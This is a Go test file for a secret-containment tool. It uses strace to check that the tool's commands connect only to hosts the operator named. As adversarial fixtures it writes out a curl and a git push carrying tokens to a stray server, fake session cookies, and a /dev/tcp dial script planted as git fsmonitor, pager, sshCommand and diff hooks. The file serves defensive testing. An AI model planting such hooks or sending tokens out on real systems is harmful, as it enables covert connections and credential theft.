package realtest

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
)

// internetAddress finds the port and the address in a socket address as strace prints it.
var internetAddress = regexp.MustCompile(`sa_family=AF_INET6?, sin6?_port=htons\((\d+)\)[^}]*?(?:inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)")`)

// traced runs a program under strace and returns its exit code, what it printed on each stream, and
// the hosts to which it and every process that it started connected or sent a datagram.
func traced(t *testing.T, env []string, args ...string) (code int, printed, errs string, sent *recorder) {
	t.Helper()
	need(t, "strace")
	file := filepath.Join(t.TempDir(), "trace")
	c := exec.CommandContext(t.Context(), "strace", append([]string{"-f", "-qq", "-s", "0", "--seccomp-bpf", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-e", "signal=none", "-o", file}, args...)...)
	c.Env = env
	var out, errOut bytes.Buffer
	c.Stdout, c.Stderr = &out, &errOut
	if err := c.Run(); c.ProcessState == nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("strace wrote nothing: %v\n%s", err, tail(errOut.String()))
	}
	sent = &recorder{}
	for _, m := range internetAddress.FindAllStringSubmatch(string(text), -1) {
		sent.note(net.JoinHostPort(m[2]+m[3], m[1]))
	}
	return c.ProcessState.ExitCode(), out.String(), errOut.String(), sent
}

// process runs quell in a process of its own, and checks that neither it nor any process that it
// starts sends anything to a host that the operator did not name.
func (o *operator) process(want int, args ...string) (printed string, sent *recorder) {
	o.t.Helper()
	env := append(os.Environ(), asQuell+"=1", "HOME="+o.dir)
	for k, v := range o.env {
		env = append(env, k+"="+v)
	}
	code, printed, errs, sent := traced(o.t, env, append([]string{os.Args[0]}, args...)...)
	if code != want {
		o.t.Fatalf("quell %s ended with %d, not %d\n%s", strings.Join(args, " "), code, want, tail(printed+errs))
	}
	for _, host := range sent.unnamed(o.named(args)) {
		o.t.Errorf("quell %s connected to %s, which the operator did not name", args[0], host)
	}
	o.clean(printed + errs)
	return printed, sent
}

// The trace records what a child process sends, by TCP and in a datagram.
func TestTheTraceSeesWhatChildrenSend(t *testing.T) {
	stray := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(stray.Close)
	host := strings.TrimPrefix(stray.URL, "http://")
	need(t, "git")
	_, port, _ := net.SplitHostPort(host)
	_, _, _, sent := traced(t, os.Environ(), "bash", "-c", "git ls-remote "+stray.URL+"/x.git; (echo x > /dev/udp/127.0.0.1/"+port+")")
	if got := sent.unnamed(map[string]bool{}); len(got) != 1 || got[0] != host || sent.count() < 2 {
		t.Errorf("%v", sent.hosts)
	}
	if got := sent.unnamed(map[string]bool{local(host): true}); len(got) != 0 {
		t.Errorf("%v", got)
	}
}

// Whole runs of contain, scan, plan, apply and recheck, each a process of its own with all that it
// starts, connect to the application and the issuer that the operator named, and to nothing else:
// not to hosts in the text, nor to the remotes, the promisor and the hooks of a repository.
func TestProcessesConnectOnlyToNamedHosts(t *testing.T) {
	t.Parallel()
	need(t, "git")
	var strays atomic.Int32
	stray := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { strays.Add(1) }))
	t.Cleanup(stray.Close)
	host := strings.TrimPrefix(stray.URL, "http://")
	raw := base64.RawURLEncoding
	foreign := raw.EncodeToString([]byte(`{"alg":"RS256","kid":"k"}`)) + "." + raw.EncodeToString([]byte(`{"iss":"`+stray.URL+`","sub":"a","exp":4102444800}`)) + "." + strings.Repeat("aB3-", 86)[:342]
	hostile := stamp + "curl -H 'Authorization: Bearer " + foreign + "' " + stray.URL + "/api\n" +
		stamp + "Set-Cookie: connect.sid=s%3A" + strings.Repeat("a1B2", 8) + "." + strings.Repeat("c3D4", 10) + "a1B; Domain=" + host + "\n" +
		stamp + "GITEA_TOKEN=" + strings.Repeat("0a1b2c3d", 5) + " git push " + stray.URL + "/a.git\n"

	node := nodeServer(t)
	s := nodeSites(node)[0]
	issuer := oidcServer(t)
	leaked, again, control := s.session(t, "alice"), s.session(t, "alice"), s.session(t, "alice")
	granted, live := panva(t, issuer, ""), panva(t, issuer, "")
	o := newOperator(t)
	o.secrets = []string{leaked, again, control, granted.Access, granted.Refresh, live.Access, foreign}
	o.env["CONTROL"], o.env["LIVE"], o.env["CLIENT_SECRET"] = control, live.Access, "made-up-client-secret"
	o.policy(fmt.Sprintf("[[instance]]\nprovider = \"webapp\"\nurl = %q\nown = true\ncookie = %q\nprobe_path = \"/me\"\nlogout_path = \"/logout\"\nsettle = \"1s\"\ncontrol = \"env:CONTROL\"\n", s.url, s.cookie) +
		strings.Replace(strings.Replace(oauthPolicy(issuer, "app", ""), "env:CONTROL", "env:LIVE", 1), "2s", "1s", 1))

	printed, sent := o.process(1, "contain", "log", o.file("job.log", stamp+"> Cookie: "+s.cookie+"="+leaked+"\n"+hostile), "--policy", filepath.Join(o.dir, "config/quell/policy.toml"), "--format", "jsonl")
	one(t, actions(t, printed), "webapp-session-named", "Confirmed")
	if sent.count() == 0 {
		t.Error("contain: no connection was seen")
	}

	// The history of a repository whose settings name hosts and programs of strangers.
	repo := t.TempDir()
	git := func(args ...string) {
		command(t, []string{"GIT_AUTHOR_NAME=A", "GIT_AUTHOR_EMAIL=a@example.com", "GIT_COMMITTER_NAME=A", "GIT_COMMITTER_EMAIL=a@example.com", "GIT_CONFIG_GLOBAL=/dev/null"}, repo, append([]string{"git"}, args...)...)
	}
	git("init", "-q", "-b", "main")
	text := "Cookie: " + s.cookie + "=" + again + "\n{\"access_token\":\"" + granted.Access + "\",\"refresh_token\":\"" + granted.Refresh + "\"}\n"
	if err := os.WriteFile(filepath.Join(repo, "trace.txt"), []byte(text+hostile), 0o600); err != nil {
		t.Fatal(err)
	}
	git("add", ".")
	git("commit", "-q", "-m", "trace")
	dial := filepath.Join(o.dir, "dial")
	if err := os.WriteFile(dial, []byte("#!/bin/bash\nexec 3<>/dev/tcp/"+strings.Replace(host, ":", "/", 1)+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	for k, v := range map[string]string{
		"remote.origin.url": stray.URL + "/a.git", "remote.origin.promisor": "true", "remote.origin.partialclonefilter": "blob:none",
		"extensions.partialClone": "origin", "core.repositoryformatversion": "1", "core.fsmonitor": dial, "core.pager": dial, "core.sshCommand": dial, "diff.external": dial,
	} {
		git("config", k, v)
	}
	report, plan := filepath.Join(o.dir, "r.jsonl"), filepath.Join(o.dir, "p.json")
	_, scanned := o.process(1, "scan", "git", repo, "--format", "jsonl", "--output", report)
	_, planned := o.process(0, "plan", report, "--output", plan)
	printed, sent = o.process(0, "apply", plan, "--format", "jsonl")
	one(t, actions(t, printed), "webapp-session-named", "Confirmed")
	one(t, actions(t, printed), "oauth-refresh-token", "Confirmed")
	_, rechecked := o.process(0, "recheck")
	if sent.count() == 0 || scanned.count() == 0 {
		t.Error("no connection was seen")
	}
	if strays.Load() != 0 {
		t.Errorf("%d requests to the host that was not named", strays.Load())
	}
	t.Logf("connections and datagrams: scan %d, plan %d, apply %d, recheck %d, all of them to %s and %s", scanned.count(), planned.count(), sent.count(), rechecked.count(), s.url, issuer)
}
